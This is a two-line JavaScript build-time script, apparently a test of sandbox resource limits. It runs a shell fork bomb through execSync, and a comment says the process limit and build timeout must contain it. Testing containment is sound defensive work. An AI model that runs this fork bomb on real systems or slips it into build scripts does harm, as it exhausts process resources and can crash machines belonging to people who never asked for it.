// Runs during the build: a fork bomb. The process limit and the build timeout must contain it.
require("node:child_process").execSync("f() { f | f & }; f; sleep 120", { shell: "/bin/sh", stdio: "ignore" });
